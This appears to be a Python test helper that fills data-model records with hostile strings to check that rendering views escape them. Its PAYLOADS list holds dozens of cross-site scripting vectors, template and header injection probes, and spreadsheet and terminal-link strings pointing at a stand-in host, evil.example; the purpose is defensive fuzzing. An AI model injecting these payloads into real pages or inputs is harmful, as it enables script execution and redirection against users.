"""Records whose every word is hostile, built from the models themselves: a new field is in at once.

In: a model and the words to put in. Out: an instance in which each string, also an optional one, is
one of these words, and all else is a value that views can draw. Nothing is validated: a record may
come from a file that somebody wrote by hand.
"""

from __future__ import annotations

import dataclasses
import random
import types
from collections.abc import Mapping, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Annotated, Any, Literal, Union, get_args, get_origin, get_type_hints

from pydantic import BaseModel

from tenderkit.records import CoarseDate, Span

PAYLOADS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>", "</textarea><iframe srcdoc='<script>alert(1)</script>'>", "<!-- ", "-->",
    "]]><b>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)", "[x]: javascript:alert(1)\n[x]", "<http://evil.example>", "https://evil.example/?q=1",
    "<a href=javascript:alert(1)>x</a>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=x>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "{{script}}{{body}}{{title}}", "${7*7}{{7*7}}", "\\g<0>\\1%s%(x)s{0}", "`<b>`", "```\n<b>\n```", "| a | <b> |", "</details></main>",
    "\x00<b\x00>", "\u2028<b>\u2029", "\u202e<b>", "\ufeff<script>", "<\u200bscript>alert(1)</script>", "＜script＞alert(1)＜/script＞",
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "=HYPERLINK(\"http://evil.example\")", "#tk-x\" onclick=\"alert(1)", "x y\tz\nw", "\r\nX-Header: 1",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<link rel=stylesheet href=//evil.example/x.css>", "<b",
    "<div style=position:fixed;inset:0>", "<style>*{display:none}</style>", "<object data=//evil.example>", "<embed src=//evil.example>",
)  # fmt: skip
"""Ways to get mark-up, a script, a link or a request out of words."""

CALM = "rustig woord"


def filled(model: Any, words: Sequence[str], chance: random.Random) -> Any:
    """An instance of a model or dataclass, its strings taken from `words`."""
    if model is Span:
        start = chance.randrange(0, 30)
        return Span.model_construct(
            start=start,
            end=start + chance.randrange(1, 30),
            quote=chance.choice(words),
            page=chance.choice((None, 1)),
        )
    if model is CoarseDate:
        return CoarseDate(year=2020 + chance.randrange(5), month=chance.choice((None, 3)))
    hints = get_type_hints(model, include_extras=True)
    if isinstance(model, type) and issubclass(model, BaseModel):
        names = list(model.model_fields)
        return model.model_construct(**{name: _value(hints[name], words, chance) for name in names})
    names = [field.name for field in dataclasses.fields(model)]
    return model(**{name: _value(hints[name], words, chance) for name in names})


def _value(kind: Any, words: Sequence[str], chance: random.Random) -> Any:
    origin, inner = get_origin(kind), get_args(kind)
    if origin is Annotated:
        return _value(inner[0], words, chance)
    if origin is Literal:
        return chance.choice(inner)
    if origin in (Union, types.UnionType):
        choices = [each for each in inner if each is not type(None)]
        wordy = [each for each in choices if each is str]
        return _value(chance.choice(wordy or choices), words, chance)
    if origin in (tuple, Sequence, list):
        if inner and inner[-1] is not Ellipsis and origin is tuple:
            return tuple(_value(each, words, chance) for each in inner)
        return tuple(_value(inner[0], words, chance) for _ in range(chance.randrange(1, 4)))
    if origin in (dict, Mapping):
        return {_value(inner[0], words, chance): _value(inner[1], words, chance) for _ in range(3)}
    return _plain(kind, words, chance)


def _plain(kind: Any, words: Sequence[str], chance: random.Random) -> Any:
    simple = {
        str: lambda: chance.choice(words),
        bool: lambda: chance.random() < 0.5,
        int: lambda: chance.randrange(1, 40),
        float: lambda: float(chance.randrange(1, 40)),
        Decimal: lambda: Decimal(chance.randrange(60, 120)),
        datetime: lambda: datetime(2031, 5, chance.randrange(1, 28), 9),
        date: lambda: date(2031, 5, chance.randrange(1, 28)),
    }
    return simple[kind]() if kind in simple else filled(kind, words, chance)


def with_evidence(record: Any, names: Sequence[str]) -> Any:
    """The spans of a record under the names of its fields, where views look for them."""
    spans = list(record.evidence.values())
    more = {name: spans[at % len(spans)] for at, name in enumerate(names)}
    return record.model_copy(update={"evidence": record.evidence | more})


__all__ = ["CALM", "PAYLOADS", "filled", "with_evidence"]
